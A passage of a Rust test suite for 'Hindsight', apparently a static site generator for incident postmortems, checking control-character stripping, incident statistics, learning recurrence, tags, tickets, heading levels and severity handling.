                 [see](https://example.org/ \"bell&#7;\").\n\n\
                 ## Heading &#x1b;[1mbold&#x1b;[0m &#xFFFE;here\n\nText.\n\n\
                 ## Learnings\n\n- Colours &#x1b;[33mhide&#x1b;[0m words&#127;\n\n\
                 ## Action items\n\n- [ ] Strip&#x9b; colours (owner: ops)\n",
        ),
    ]);
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("control-character")
            && stderr(&o).contains("PM2024-003 - References.md:6:14"),
        "build warns at the first reference: {}",
        stderr(&o)
    );
    let forbidden = |c: char| matches!(c, '\0'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{fffe}');
    let mut files = 0;
    for (path, bytes) in tree(&site.out) {
        let Ok(text) = String::from_utf8(bytes) else {
            continue;
        };
        files += 1;
        assert!(!text.chars().any(forbidden), "{path}: {text}");
        // Nor in JSON as escapes, nor half an escape sequence.
        for gone in [
            "\\u001b", "\\u001B", "\\u0007", "\\u007f", "\\u0085", "\\u009b", "\\ufffe", "\\uFFFE",
            "[31m", "[0m", "[1m", "[33m",
        ] {
            assert!(!text.contains(gone), "{path} holds {gone}: {text}");
        }
    }
    assert!(files > 10);
    let page = site.page("incidents/PM2024-003/index.html");
    for kept in [
        "The log said ERROR and rang twice",
        "title=\"bell\"",
        "Heading bold here",
        "Colours hide words",
        "Strip colours",
    ] {
        assert!(page.contains(kept), "{kept} not in {page}");
    }
    let api = read_json(&site.out.join("api/incidents.json")).to_string();
    for kept in ["Colours hide words", "Strip colours"] {
        assert!(api.contains(kept), "{kept} not in {api}");
    }
    // The feed is well-formed: every tag closes in order (a control character would make
    // it ill-formed too, and is checked above).
    let feed = site.page("feed.xml");
    let tags = regex::Regex::new(r"<(/?)([A-Za-z:]+)[^>]*?(/?)>").unwrap();
    let mut open = Vec::new();
    for t in tags.captures_iter(&feed) {
        match (&t[1], &t[3]) {
            ("/", _) => assert_eq!(open.pop().as_deref(), Some(&t[2]), "{feed}"),
            (_, "/") => {}
            _ => open.push(t[2].to_string()),
        }
    }
    assert!(open.is_empty(), "{feed}");
    assert!(
        feed.contains("<summary>The log said ERROR and rang twice, see.</summary>"),
        "{feed}"
    );
}

#[test]
fn repository_files_without_an_extension_beside_postmortems_at_the_root_are_not_incidents() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("repo");
    write_files(
        &root,
        &[
            (
                "2024-03-01-disk-full.md",
                "# Disk full\n\nDate: 2024-03-01\n",
            ),
            ("Dockerfile", "# syntax=docker/dockerfile:1\nFROM alpine\n"),
            ("Makefile", "# Build the site\n\nall:\n\thindsight build\n"),
            ("CODEOWNERS", "# Owners\n\n* @team-sre\n"),
            ("Justfile", "# Recipes\n\nbuild:\n    hindsight build\n"),
            ("NOTICE", "# Notice\n\nThis product includes software.\n"),
            // Names no list holds: a comment runs into the next line, or is a directive.
            ("deploy", "#!/bin/sh\n# Deploy\nset -e\n"),
            ("crontab", "# m h dom mon dow command\n0 5 * * * backup\n"),
            ("buildkit", "# syntax=docker/dockerfile:1\n\nFROM alpine\n"),
            // A real postmortem without an extension stays one.
            (
                "2024-04-02-dns-outage",
                "# DNS outage\n\nDate: 2024-04-02\n",
            ),
        ],
    );
    let out = tmp.path().join("site");
    build_ok(&root, &out);
    let mut sources = exported(&out, "source");
    sources.sort();
    assert_eq!(
        sources,
        ["2024-03-01-disk-full.md", "2024-04-02-dns-outage"]
    );
}

#[test]
fn tags_and_services_that_only_punctuation_or_a_plus_or_sharp_tells_apart_get_pages_of_their_own() {
    let post = |n: u32, services: &str, tags: &str| {
        format!("---\ndate: 2024-03-0{n}\nservices: {services}\ntags: {tags}\n---\n# Outage {n}\n\nText.\n")
    };
    let site = Site::with(&[
        ("content/a.md", &post(1, r#"[".."]"#, "[C++, Kubernetes]")),
        ("content/b.md", &post(2, "[section]", "[C, kubernetes]")),
        (
            "content/c.md",
            &post(3, r#"["?"]"#, "[c#, g++, \"#oncall\"]"),
        ),
    ]);
    site.build_ok();
    let terms = |kind: &str| {
        let mut v: Vec<String> = std::fs::read_dir(site.out.join(kind))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n != "index.html")
            .collect();
        v.sort();
        v
    };
    assert_eq!(terms("services"), ["_2e2e", "_3f", "section"]);
    assert_eq!(
        terms("tags"),
        [
            "c",
            "c-plus-plus",
            "c-sharp",
            "g-plus-plus",
            "kubernetes",
            "oncall"
        ]
    );
    // The incident page links each term to its own page.
    let page = site.page("incidents/a/index.html");
    assert!(page.contains("services/_2e2e/"), "{page}");
    assert!(page.contains("tags/c-plus-plus/"), "{page}");
}

#[test]
fn each_median_on_the_stats_page_says_how_many_incidents_it_is_the_median_of() {
    let timed = |day: u32, resolved: &str| {
        format!(
            "---\ndate: 2024-03-0{day}\nstarted_at: 2024-03-0{day}T10:00:00Z\n\
             resolved_at: 2024-03-0{day}T{resolved}:00Z\n---\n# Outage {day}\n\nText.\n"
        )
    };
    let site = Site::with(&[
        ("content/a.md", &timed(1, "11:00")),
        ("content/b.md", &timed(2, "13:00")),
        // An incident with no times counts in the year, not in its medians.
        (
            "content/c.md",
            "---\ndate: 2024-03-03\n---\n# Outage 3\n\nText.\n",
        ),
        ("content/d.md", &timed(4, "10:30").replace("2024-", "2023-")),
    ]);
    site.build_ok();
    let stats = site.page("stats/index.html");
    // Three incidents in 2024, the median time to resolve of two; none detected.
    assert!(
        stats.contains(
            "<td>3</td><td>–</td><td>2 h <span class=\"muted\">(median of 2 incidents)</span></td>"
        ),
        "{stats}"
    );
    assert!(
        stats.contains("<td>1</td><td>–</td><td>30 min <span class=\"muted\">(from 1 incident only)</span></td>"),
        "{stats}"
    );
    // In words, not in a tooltip nor a style: the page's text says it.
    let text = site.text("stats/index.html");
    assert!(text.contains("2 h (median of 2 incidents)"), "{text}");
}

#[test]
fn the_median_times_of_an_even_number_of_incidents_are_the_mean_of_the_two_middle_ones() {
    // Detected after 1 h and 3 h, resolved after 2 h and 4 h: medians 2 h and 3 h.
    let post = |n: u32, detected: &str, resolved: &str| {
        format!(
            "---\ndate: 2024-03-0{n}\nstarted_at: 2024-03-0{n}T10:00:00Z\n\
             detected_at: 2024-03-0{n}T{detected}:00Z\nresolved_at: 2024-03-0{n}T{resolved}:00Z\n\
             ---\n# Outage {n}\n\nText.\n"
        )
    };
    let site = Site::with(&[
        ("content/a.md", &post(1, "11:00", "12:00")),
        ("content/b.md", &post(2, "13:00", "14:00")),
    ]);
    site.build_ok();
    let page = site.page("stats/index.html");
    assert!(
        page.contains("<td>2</td><td>2 h <span class=\"muted\">(median of 2 incidents)</span></td><td>3 h <span class=\"muted\">(median of 2 incidents)</span></td>"),
        "{page}"
    );
}

#[test]
fn a_time_of_a_day_or_more_is_rounded_to_the_nearest_hour_not_cut_short_by_its_minutes() {
    // As dfds PM2025-001 and -002 state them: the median time to resolve is 3114 minutes,
    // 2 d 3 h 54 min, which is nearer 2 d 4 h than the 2 d 3 h a truncation showed.
    let post = |n: u32, detect: u32, recover: u32| {
        format!(
            "---\ndate: 2025-03-0{n}\n---\n# Outage {n}\n\n## Stats\n\n\
             - Time to detection: {detect} minutes\n- Time to recovery: {recover} minutes\n"
        )
    };
    let site = Site::with(&[
        ("content/a.md", &post(1, 5280, 5840)),
        ("content/b.md", &post(2, 371, 389)),
        ("content/c.md", &post(3, 1445, 3114)),
    ]);
    site.build_ok();
    let stats = site.page("stats/index.html");
    // Medians of 371, 1445, 5280 and 389, 3114, 5840 minutes; 1445 is a day and five minutes.
    assert!(
        stats.contains("<td>3</td><td>1 d <span class=\"muted\">(median of 3 incidents)</span></td><td>2 d 4 h <span class=\"muted\">(median of 3 incidents)</span></td>"),
        "{stats}"
    );
    // 5840 minutes is 4 d 1 h 20 min.
    let a = site.text("incidents/a/index.html");
    assert!(a.contains("Time to resolve4 d 1 h ("), "{a}");
    let c = site.text("incidents/c/index.html");
    assert!(c.contains("Time to resolve2 d 4 h ("), "{c}");
}

#[test]
fn the_learnings_page_says_why_learnings_are_in_no_group_with_and_without_canonical_learnings() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("kb");
    write_files(
        &root,
        &[
            (
                "content/a.md",
                "---\ndate: 2024-03-01\n---\n# Disk full\n\n## Learnings\n\n- Log rotation needs a size cap.\n- Dashboards should show free inodes.\n",
            ),
            (
                "content/b.md",
                "---\ndate: 2024-04-01\n---\n# Certificate expired\n\n## Learnings\n\n- Certificates renew themselves or page someone.\n",
            ),
        ],
    );
    let text = |out: &std::path::Path| {
        let page = std::fs::read_to_string(out.join("learnings/index.html")).unwrap();
        let start = page
            .find("No other incident states or addresses these")
            .expect(&page);
        page[start..start + page[start..].find("</p>").unwrap()].to_string()
    };
    let out = tmp.path().join("site");
    build_ok(&root, &out);
    assert_eq!(
        text(&out),
        "No other incident states or addresses these: Hindsight found none that says the same in other words."
    );
    write_files(
        &root,
        &[(
            "content/learnings/alert-on-symptoms.md",
            "# Alert on symptoms\n\nWatch what customers feel.\n",
        )],
    );
    let out = tmp.path().join("site2");
    build_ok(&root, &out);
    assert!(
        text(&out).contains(": none cites the same canonical learning, and Hindsight found none"),
        "{}",
        text(&out)
    );
}

#[test]
fn an_action_item_due_after_a_later_incident_does_not_make_it_a_recurrence_after_a_done_fix() {
    let pm = |id: &str, date: &str, action: &str| {
        format!(
            "---\nid: {id}\ntitle: Outage {id}\ndate: {date}\nlearnings:\n  - id: lesson-a\n    text: Lesson A in the words of {id}.\n{action}---\n\nWhat happened.\n"
        )
    };
    let first = pm(
        "INC-1",
        "2024-01-10",
        "action_items:\n  - text: Fix it for good\n    status: done\n    due: 2024-12-31\n    learning: lesson-a\n",
    );
    let site = Site::with(&[
        (
            "content/learnings/lesson-a.md",
            "---\ntitle: Lesson A\n---\n\nWhat lesson A says.\n",
        ),
        ("content/postmortems/inc-1.md", &first),
        (
            "content/postmortems/inc-2.md",
            &pm("INC-2", "2024-03-01", ""),
        ),
    ]);
    site.build_ok();
    let page = |path: &str| site.page(path);
    // INC-1's action item was due at the end of the year: nothing says it was done before
    // INC-2, so nothing says INC-2 recurred after it was.
    let learning = page("learnings/lesson-a/index.html");
    assert!(learning.contains("Outage INC-2"), "{learning}");
    assert!(!learning.contains("recurred-h"), "{learning}");
    assert!(!page("learnings/index.html").contains("class=\"flag\""));
    assert!(page("index.html").contains("<strong>0</strong> recurred after"));

    // An incident after the due date did recur after an incident whose action item is done,
    // and the page says so in those words.
    write_files(
        &site.root,
        &[(
            "content/postmortems/inc-3.md",
            &pm("INC-3", "2025-02-01", ""),
        )],
    );
    site.build_ok();
    let learning = page("learnings/lesson-a/index.html");
    let start = learning.find("id=\"recurred-h\"").expect("a recurrence");
    let warning = &learning[start..learning[start..].find("</section>").unwrap() + start];
    assert!(warning.contains("Outage INC-3</a>"), "{warning}");
    assert!(!warning.contains("Outage INC-2</a>"), "{warning}");
    assert!(
        warning.contains("Outage INC-1</a> (<time datetime=\"2024-01-10\">2024-01-10</time>), whose action item for it is now done."),
        "{warning}"
    );
    assert!(!warning.contains("was marked done"), "{warning}");
    assert!(page("learnings/index.html")
        .contains("Recurred after an incident whose action item is now done"));
}

#[test]
fn a_lesson_learned_again_on_another_service_is_no_recurrence_after_the_fix_done_elsewhere() {
    let pm = |id: &str, date: &str, services: &str, action: &str| {
        format!(
            "---\nid: {id}\ntitle: Outage {id}\ndate: {date}\nservices: [{services}]\nlearnings:\n  - id: lesson-a\n    text: Lesson A in the words of {id}.\n{action}---\n\nWhat happened.\n"
        )
    };
    let done =
        "action_items:\n  - text: Fix it in checkout\n    status: done\n    learning: lesson-a\n";
    let site = Site::with(&[
        (
            "content/learnings/lesson-a.md",
            "---\ntitle: Lesson A\n---\n\nWhat lesson A says.\n",
        ),
        (
            "content/postmortems/inc-1.md",
            &pm("INC-1", "2024-01-10", "checkout", done),
        ),
        (
            "content/postmortems/inc-2.md",
            &pm("INC-2", "2024-03-01", "search, Catalog", ""),
        ),
    ]);
    site.build_ok();
    // The lesson recurs, but the action item done for checkout was not meant to stop an
    // incident of search and catalog.
    let learning = site.page("learnings/lesson-a/index.html");
    assert!(learning.contains("Outage INC-2"), "{learning}");
    assert!(!learning.contains("recurred-h"), "{learning}");
    assert!(site
        .page("index.html")
        .contains("<strong>0</strong> recurred after"));

    // A later incident of a service they share (named in another case) did recur after it.
    write_files(
        &site.root,
        &[(
            "content/postmortems/inc-3.md",
            &pm("INC-3", "2024-06-01", "catalog, Checkout", ""),
        )],
    );
    site.build_ok();
    let learning = site.page("learnings/lesson-a/index.html");
    let start = learning.find("id=\"recurred-h\"").expect("a recurrence");
    let warning = &learning[start..learning[start..].find("</section>").unwrap() + start];
    assert!(warning.contains("Outage INC-3</a>"), "{warning}");
    assert!(warning.contains("Outage INC-1</a>"), "{warning}");
    assert!(!warning.contains("Outage INC-2</a>"), "{warning}");
}

#[test]
fn the_overview_says_how_many_recurring_learnings_it_leaves_out_of_its_short_list() {
    let lessons = [
        "alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf",
    ];
    let cites: String = lessons
        .iter()
        .map(|l| format!("  - id: {l}\n    text: Lesson {l}.\n"))
        .collect();
    let pm = |n: u32| {
        format!("---\ntitle: Outage {n}\ndate: 2024-0{n}-01\nlearnings:\n{cites}---\n\nText.\n")
    };
    let mut files: Vec<(String, String)> = lessons
        .iter()
        .map(|l| {
            (
                format!("content/learnings/{l}.md"),
                format!("---\ntitle: Lesson {l}\n---\n\nWhat {l} says.\n"),
            )
        })
        .collect();
    files.push(("content/postmortems/one.md".into(), pm(1)));
    files.push(("content/postmortems/two.md".into(), pm(2)));
    let borrowed: Vec<(&str, &str)> = files
        .iter()
        .map(|(p, t)| (p.as_str(), t.as_str()))
        .collect();
    let site = Site::with(&borrowed);
    site.build_ok();
    let home = site.page("index.html");
    assert!(
        home.contains("<strong>7</strong> learnings seen in more than one incident"),
        "{home}"
    );
    let start = home.find("id=\"recurring-h\"").unwrap();
    let aside = &home[start..start + home[start..].find("</aside>").unwrap()];
    assert_eq!(aside.matches("learning-row").count(), 6, "{aside}");
    assert!(
        aside.contains("The 6 seen in the most incidents, of 7:"),
        "{aside}"
    );
    assert!(
        aside.contains("All 7, and every other learning →"),
        "{aside}"
    );
}

#[test]
fn the_link_to_the_page_being_read_is_marked_current_in_the_header_and_the_footer() {
    let site = Site::with(&[(
        "content/a.md",
        "---\ndate: 2024-03-01\nseverity: SEV2\ntags: [disk]\nservices: [api]\n---\n# Disk full\n\nText.\n",
    )]);
    site.build_ok();
    let current = |page: &str| -> Vec<String> {
        let html = site.page(page);
        html.match_indices(" aria-current=\"page\">")
            .map(|(at, m)| {
                let end = at + m.len();
                html[end..end + html[end..].find('<').unwrap()].to_string()
            })
            .collect()
    };
    assert_eq!(current("index.html"), Vec::<String>::new());
    assert_eq!(current("incidents/index.html"), ["Incidents"]);
    assert_eq!(current("learnings/index.html"), ["Learnings"]);
    for (page, name) in [
        ("tags/index.html", "Tags"),
        ("services/index.html", "Services"),
        ("severity/index.html", "Severity"),
        ("years/index.html", "Years"),
    ] {
        assert_eq!(current(page), [name], "{page}");
    }
    // A term's page is not the list of terms.
    assert_eq!(current("tags/disk/index.html"), Vec::<String>::new());
}

#[test]
fn a_reading_path_s_own_words_come_before_its_steps() {
    let site = Site::with(&[
        (
            "content/a.md",
            "---\nid: A-1\ntitle: Checkout down\ndate: 2024-01-02\n---\n\nWhat happened.\n",
        ),
        (
            "content/onboarding.md",
            "---\ntitle: Start here\npath:\n  - incident: A-1\n    why: Read it first.\n---\n\nRead these in order in your first week.\n",
        ),
    ]);
    site.build_ok();
    let page = site.page("onboarding/index.html");
    let words = page.find("Read these in order in your first week.");
    let step = page.find("Read it first.");
    assert!(words.is_some() && words < step, "{page}");
}

#[test]
fn an_action_item_s_ticket_is_shown_beside_it_linked_when_it_is_a_web_address_and_exported() {
    let site = Site::with(&[
        (
            "content/a.md",
            "---\nid: A-1\ntitle: Disk full\ndate: 2024-03-01\naction_items:\n  - text: Add a disk alert\n    ticket: https://tracker.example.org/browse/OPS-7\n  - text: Grow the disk\n    ticket: OPS-8\n  - text: Write the runbook\n---\n\nWhat happened.\n",
        ),
        (
            "content/b.md",
            "# Queue stuck\n\nDate: 2024-04-02\n\n## Action items\n\n| Action | Owner | Jira |\n|---|---|---|\n| Alert on queue age | sre | QUE-3 |\n| Drain the queue | | |\n",
        ),
    ]);
    site.build_ok();
    let page = site.page("incidents/A-1/index.html");
    assert!(
        page.contains("<span class=\"ticket\">Ticket: <a href=\"https://tracker.example.org/browse/OPS-7\">tracker.example.org/browse/OPS-7</a></span>"),
        "{page}"
    );
    assert!(
        page.contains("<span class=\"ticket\">Ticket: OPS-8</span>"),
        "{page}"
    );
    assert_eq!(page.matches("class=\"ticket\"").count(), 2, "{page}");
    let items = &site.incident("A-1")["action_items"];
    assert_eq!(
        items[0]["ticket"],
        "https://tracker.example.org/browse/OPS-7"
    );
    assert_eq!(items[1]["ticket"], "OPS-8");
    assert!(items[2]["ticket"].is_null());
    // A Jira column of an action items table is the ticket too.
    let items = &site.incident("b")["action_items"];
    assert_eq!(items[0]["ticket"], "QUE-3", "{items}");
    assert!(items[1]["ticket"].is_null(), "{items}");
    assert!(site
        .page("action-items/index.html")
        .contains("<span class=\"ticket\">Ticket: QUE-3</span>"));
}

#[test]
fn body_headings_start_at_h2_and_skip_no_level_whatever_levels_they_are_written_at() {
    let site = Site::with(
        &[
            (
                "content/postmortems/deep.md",
                "---\nid: DEEP\ntitle: Deep headings\ndate: 2024-03-01\n---\n\n# Deep headings\n\n\
                 #### Summary\n\nWhat happened.\n\n###### Detail\n\nMore.\n\n#### Impact\n\nSome.\n",
            ),
            (
                "content/postmortems/skip.md",
                "---\nid: SKIP\ntitle: Skipped level\ndate: 2024-03-02\n---\n\n\
                 #### A note first\n\nText.\n\n## Summary\n\nText.\n\n#### Detail\n\nText.\n\n### Cause\n\nText.\n",
            ),
        ],
    );
    site.build_ok();
    let page = |id: &str| {
        let page = site.page(&format!("incidents/{id}/index.html"));
        let body = &page[page.find("class=\"prose postmortem\"").unwrap()..];
        (
            page.clone(),
            body[..body.find("</div>").unwrap()].to_string(),
        )
    };
    let levels = |body: &str| -> Vec<(String, String)> {
        body.split("<h")
            .skip(1)
            .map(|h| {
                let level = h[..1].to_string();
                let id = h.split('"').nth(1).unwrap().to_string();
                (level, id)
            })
            .collect()
    };
    let pairs = |v: &[(&str, &str)]| -> Vec<(String, String)> {
        v.iter()
            .map(|(a, b)| (a.to_string(), b.to_string()))
            .collect()
    };
    // The body's top level (h4) is an h2 under the page's h1, the next one used (h6) an h3;
    // the ids are as written.
    let (deep, body) = page("DEEP");
    assert_eq!(
        levels(&body),
        pairs(&[("2", "summary"), ("3", "detail"), ("2", "impact")]),
        "{body}"
    );
    assert!(
        body.contains("<a class=\"anchor\" href=\"#detail\""),
        "{body}"
    );
    // The table of contents lists them, at the levels they are shown at.
    assert!(
        deep.contains("<li class=\"toc-2\"><a href=\"#summary\">Summary</a></li>"),
        "{deep}"
    );
    assert!(
        deep.contains("<li class=\"toc-3\"><a href=\"#detail\">Detail</a></li>"),
        "{deep}"
    );
    // No heading is more than one level below the one before it.
    let (_, body) = page("SKIP");
    assert_eq!(
        levels(&body),
        pairs(&[
            ("2", "a-note-first"),
            ("2", "summary"),
            ("3", "detail"),
            ("3", "cause")
        ]),
        "{body}"
    );
}

#[test]
fn an_incident_linked_to_a_learning_only_by_an_action_item_is_not_said_to_have_learned_it() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    build_ok(Path::new(env!("CARGO_MANIFEST_DIR")), &out);
    let page = std::fs::read_to_string(out.join("incidents/PM2022-003/index.html")).unwrap();
    let text = |html: &str| html_text(html);
    // PM2025-001 states no staged-rollout learning: one of its action items cites it.
    let learned =
        &page[page.find("id=\"learned-h\"").unwrap()..page.find("id=\"actions-h\"").unwrap()];
    let learned = text(learned);
    assert!(
        learned.contains("Learned again later in 2022-11-25-black-friday-notification-storm (2022): Black Friday promotion push was sent to customers four times; PM2023-002 (2023): Simultaneous node pool upgrades evicted checkout during the lunch peak; PM2023-006 (2023): Campaign discount applied twice to orders that also used a loyalty voucher (linked by Hindsight); PM2024-002 (2024): Checkout slowed to a crawl after a staging connection pool change reached production."),
        "{learned}"
    );
    assert!(!learned.contains("production; PM2025-001"), "{learned}");
    assert!(
        learned.contains("An action item of PM2025-001 (2025): Customers charged twice after a payment retry setting went live in every market is meant to address it."),
        "{learned}"
    );
    let related = &page[page.find("id=\"related-h\"").unwrap()..];
    let pm2025_001 = related[related.find("PM2025-001").unwrap()..]
        .split("</li>")
        .next()
        .unwrap();
    assert!(
        pm2025_001
            .contains("action item on the same learning: Roll out configuration changes in stages"),
        "{pm2025_001}"
    );
    // ... and only as that: not also as a learning both state.
    assert_eq!(
        pm2025_001.matches("same learning: Roll out").count(),
        1,
        "{pm2025_001}"
    );
}

#[test]
fn an_incident_page_names_the_nearest_incidents_that_state_a_learning_apart_from_those_that_only_address_it(
) {
    // Incidents 4, 9 and 12 only file an action item for the learning; the others state it.
    let site = retry_site(12, |k| ![4, 9, 12].contains(&k));
    let page = site.page("incidents/PM-08/index.html");
    let learned = &page[page.find("id=\"learned-h\"").unwrap()..];
    let learned = html_text(&learned[..learned.find("</section>").unwrap()]);
    assert!(
        learned.contains("Learned before in PM-02 (2020): Outage 2; PM-03 (2020): Outage 3; PM-05 (2020): Outage 5; PM-06 (2020): Outage 6; PM-07 (2020): Outage 7 and 1 earlier."),
        "{learned}"
    );
    assert!(
        learned
            .contains("Learned again later in PM-10 (2020): Outage 10; PM-11 (2020): Outage 11."),
        "{learned}"
    );
    assert!(
        learned.contains(
            "Action items of PM-04 (2020): Outage 4; PM-09 (2020): Outage 9; PM-12 (2020): Outage 12 are meant to address it."
        ),
        "{learned}"
    );
    // The learning's own page and the index count the three apart too.
    let page = site.text("learnings/retry/index.html");
    assert!(
        page.contains(
            "Learning · in 12 incidents: learned in 9, addressed only by an action item in 3"
        ),
        "{page}"
    );
    let index = site.text("learnings/index.html");
    assert!(
        index.contains("12 incidents Retries need backoff. First seen 2020-01-01, last seen 2020-01-12; learned in 9, 3 only through an action item"),
        "{index}"
    );
}

#[test]
fn the_default_reading_path_names_the_first_incident_that_stated_a_lesson_not_one_that_only_addressed_it(
) {
    // Incident 1 only files an action item for the learning.
    let site = retry_site(3, |k| k != 1);
    let page = site.text("onboarding/index.html");
    assert!(
        page.contains("Learned in 2 incidents; action items of 1 more address it."),
        "{page}"
    );
    // Outage 1 only filed an action item for it: Outage 2 is the first that learned it.
    assert!(
        page.contains("2020-01-02 Outage 2 The first time this was learned."),
        "{page}"
    );
}

#[test]
fn an_owner_and_due_date_in_parentheses_after_a_derived_action_item_are_exported_without_them() {
    let site = Site::with(&[(
        "content/2025-08-07-ingress-class-removal.md",
        "# Ingress class removal\n\n## Summary\n\nVans stopped reporting.\n\n## Action items\n\n\
             - [x] Reinstall the legacy controller (team-platform)\n\
             - [ ] Record the owner of old tickets (team-platform, due 2025-10-31)\n\
             - [ ] Page on telematics updates below half the baseline (due 2025-09-30)\n\
             - [ ] Add a dashboard (e.g. Grafana)\n\
             - [ ] Move the alerts (AWS)\n",
    )]);
    site.build_ok();
    let incidents = read_json(&site.out.join("api/incidents.json"));
    let items: Vec<(String, String, String, String)> = incidents[0]["action_items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            let s = |k: &str| a[k].as_str().unwrap_or("").to_string();
            (s("text"), s("owner"), s("status"), s("due"))
        })
        .collect();
    let want = [
        (
            "Reinstall the legacy controller",
            "team-platform",
            "done",
            "",
        ),
        (
            "Record the owner of old tickets",
            "team-platform",
            "open",
            "2025-10-31",
        ),
        (
            "Page on telematics updates below half the baseline",
            "",
            "open",
            "2025-09-30",
        ),
        // Prose in parentheses is no owner.
        ("Add a dashboard (e.g. Grafana)", "", "open", ""),
        ("Move the alerts (AWS)", "", "open", ""),
    ];
    let want: Vec<(String, String, String, String)> = want
        .iter()
        .map(|(t, o, s, d)| (t.to_string(), o.to_string(), s.to_string(), d.to_string()))
        .collect();
    assert_eq!(items, want);
}

#[test]
fn a_heading_never_takes_an_id_of_the_pages_raw_html_and_its_links_follow_it() {
    let site = Site::with(&[(
        "content/postmortems/rollback.md",
        "---\nid: RB-1\ntitle: Rollback\ndate: 2024-03-01\n---\n\n# Rollback\n\n## Summary\n\n\
             <a id=\"rollback\"></a>What happened.\n\n## Rollback {#rollback}\n\nText.\n\n\
             ## Steps\n\n<div id=\"steps\">One.</div>\n",
    )]);
    site.build_ok();
    let page = site.page("incidents/RB-1/index.html");
    // Each id is on one element: the raw HTML keeps its ids, the headings are told apart.
    for id in ["rollback", "steps", "rollback-1", "steps-1"] {
        assert_eq!(
            page.matches(&format!("id=\"{id}\"")).count(),
            1,
            "{id}: {page}"
        );
    }
    assert!(page.contains("<h2 id=\"rollback-1\">"), "{page}");
    assert!(page.contains("<h2 id=\"steps-1\">"), "{page}");
    // The heading's anchor link and the table of contents lead to the heading's id.
    assert!(
        page.contains("<a class=\"anchor\" href=\"#rollback-1\""),
        "{page}"
    );
    assert!(
        page.contains("<a href=\"#rollback-1\">Rollback</a>"),
        "{page}"
    );
    assert!(page.contains("<a href=\"#steps-1\">Steps</a>"), "{page}");
}

#[test]
fn a_canonical_learnings_links_lead_to_pages_and_its_images_are_copied_beside_it() {
    let site = Site::with(
        &[
            (
                "content/incidents/disk.md",
                "---\nid: PM2024-001\ndate: 2024-03-01\n---\n# Disk full\n\n## Timeline\n\nIt filled.\n",
            ),
            ("content/learnings/owners.png", "png"),
            ("content/home.png", "png"),
            (
                "content/learnings/own-it.md",
                "# Own what you run\n\nSee [the timeline](../incidents/disk.md#timeline).\n\n\
                 ![The owners](owners.png)\n",
            ),
            ("content/index.md", "# Welcome\n\n![Home](home.png)\n"),
        ],
    );
    site.build_ok();
    let page = site.page("learnings/own-it/index.html");
    assert!(
        page.contains("<a href=\"../../incidents/PM2024-001/#timeline\">the timeline</a>"),
        "{page}"
    );
    assert!(page.contains("<img src=\"owners.png\""), "{page}");
    assert_eq!(
        std::fs::read(site.out.join("learnings/own-it/owners.png")).unwrap(),
        b"png"
    );
    // The overview intro's image too, under assets/.
    let overview = site.page("index.html");
    assert!(
        overview.contains("<img src=\"assets/home.png\""),
        "{overview}"
    );
    assert_eq!(
        std::fs::read(site.out.join("assets/home.png")).unwrap(),
        b"png"
    );
}

#[test]
fn an_object_or_an_embed_of_a_postmortem_shows_its_page_as_an_iframe_does() {
    let site = Site::with(
        &[
            (
                "content/disk.md",
                "---\nid: PM2024-001\ndate: 2024-03-01\n---\n# Disk full\n\n## Timeline\n\nIt filled.\n",
            ),
            ("content/learnings/own-it.md", "# Own what you run\n\nOwn it.\n"),
            (
                "content/again.md",
                "---\nid: PM2024-002\ndate: 2024-03-02\n---\n# Again\n\n\
                 <object data=\"disk.md#timeline\" width=\"600\"></object>\n\n\
                 <embed src=\"learnings/own-it.md\">\n",
            ),
        ],
    );
    site.build_ok();
    let page = site.page("incidents/PM2024-002/index.html");
    assert!(
        page.contains("<object data=\"../../incidents/PM2024-001/#timeline\" width=\"600\">"),
        "{page}"
    );
    assert!(
        page.contains("<embed src=\"../../learnings/own-it/\">"),
        "{page}"
    );
    // No Markdown file is copied into the site.
    assert!(!site.out.join("incidents/PM2024-002/disk.md").exists());
}

#[test]
fn front_matter_severities_that_differ_in_case_spaces_or_punctuation_are_one_level_of_the_scale() {
    let post = |n: usize, sev: &str| {
        format!("---\nid: P-{n}\ntitle: Outage {n}\ndate: 2024-01-0{n}\nseverity: {sev}\n---\n# Outage\n\nIt broke.\n")
    };
    let spellings = ["sev2", "SEV-2", "Sev 2", "sev_2", "SEV 2"];
    let files: Vec<(String, String)> = spellings
        .iter()
        .enumerate()
        .map(|(i, s)| (format!("content/p{}.md", i + 1), post(i + 1, s)))
        .collect();
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(p, t)| (p.as_str(), t.as_str()))
        .collect();
    let site = Site::with(&files);
    site.build_ok();
    // One page, named as the scale spells the level.
    let pages: Vec<String> = std::fs::read_dir(site.out.join("severity"))
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.path().is_dir())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(pages, ["sev2"]);
    let term = site.page("severity/sev2/index.html");
    for n in 1..=spellings.len() {
        assert!(term.contains(&format!("Outage {n}")), "{term}");
    }
    assert_eq!(exported(&site.out, "severity"), ["SEV2"; 5]);
    let feed = site.page("feed.xml");
    assert_eq!(
        feed.matches("<category term=\"SEV2\"/>").count(),
        5,
        "{feed}"
    );
    for odd in &spellings[1..] {
        assert!(
            !feed.contains(&format!("term=\"{odd}\"")),
            "{odd} in the feed"
        );
    }
    // The search page's severity filter: one value, counted five times.
    let index = read_json(&site.out.join("search/index.json"));
    assert_eq!(
        index["filters"]["severity"],
        serde_json::json!([["SEV2", 5]]),
        "{index}"
    );
}

#[test]
fn a_severity_off_the_scale_fails_the_build_as_check_does_and_never_gets_a_page_of_its_own() {
    let site = Site::with(
        &[
            (
                "content/a.md",
                "---\nid: A-1\ntitle: Checkout down\ndate: 2024-01-02\nseverity: P1\n---\n# Checkout down\n\nIt broke.\n",
            ),
            (
                "content/b.md",
                "---\nid: B-1\ntitle: Search slow\ndate: 2024-01-03\nseverity: SEV3\n---\n# Search slow\n\nIt was slow.\n",
            ),
        ],
    );
    // By default an error, in `build` as in `check`: at the value, as written.
    let o = site.build();
